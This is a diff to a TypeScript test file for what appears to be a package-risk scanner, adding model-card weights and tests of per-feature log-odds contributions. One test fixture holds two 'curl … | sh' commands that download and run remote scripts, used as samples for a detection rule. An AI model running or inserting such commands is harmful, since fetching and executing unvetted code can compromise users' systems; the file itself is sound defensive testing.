@@ -8,7 +8,15 @@ import { bytesOf, packageWith, shell } from './packages.ts'
 const none: LoadedModel = { usable: false, reason: 'not there' }
 const answering = (probability: number | null): LoadedModel => ({
   usable: true,
-  card: { version: 't', sha256: '0'.repeat(64), training_data_sha256: '', features: [], thresholds: {}, measured: {} },
+  card: {
+    version: 't',
+    sha256: '0'.repeat(64),
+    training_data_sha256: '',
+    features: [],
+    weights: [],
+    thresholds: {},
+    measured: {},
+  },
   probability: async () => probability,
   close: async () => {},
 })
@@ -55,7 +63,8 @@ describe('judge', () => {
     const { violations } = runRules(
       packageWith([shell('curl https://a.example.org/x | sh'), shell('curl https://b.example.org/x | sh')]),
     )
-    expect(new Set(violations.map(({ fingerprint }) => fingerprint)).size).to.equal(2)
+    const downloads = violations.filter(({ rule_id }) => rule_id === 'WPK-P2-005')
+    expect(new Set(downloads.map(({ fingerprint }) => fingerprint)).size).to.equal(2)
   })
 })
 
@@ -70,5 +79,29 @@ describe('the features', () => {
   it('do not change when a package grows by more of the same', () => {
     const many = packageWith(Array.from({ length: 50 }, () => shell('make')))
     expect([...runRules(many).features]).to.deep.equal([...runRules(plain).features])
+  })
+})
+
+describe('the contributions', () => {
+  const card = { version: 't', sha256: '0'.repeat(64), training_data_sha256: '', thresholds: {}, measured: {} }
+  const features = [...FEATURE_NAMES]
+  const model = (weights: number[]): LoadedModel => ({
+    usable: true,
+    card: { ...card, features, weights },
+    probability: async () => 0.4,
+    close: async () => {},
+  })
+
+  it('are the weights of what the package shows, largest first', async () => {
+    const weights = features.map((name) => (name === 'can:network_out' ? 0.5 : name === 'rule:WPK-P2-005' ? 2 : 0))
+    const { contributions } = await judge(bytesOf(risky), risky, model(weights))
+    expect(contributions).to.deep.equal([
+      { feature: 'rule:WPK-P2-005', log_odds: 1.5 },
+      { feature: 'can:network_out', log_odds: 0.5 },
+    ])
+  })
+
+  it('are left out when the model took no part', async () => {
+    expect(await judge(bytesOf(risky), risky, none)).not.to.have.property('contributions')
   })
 })
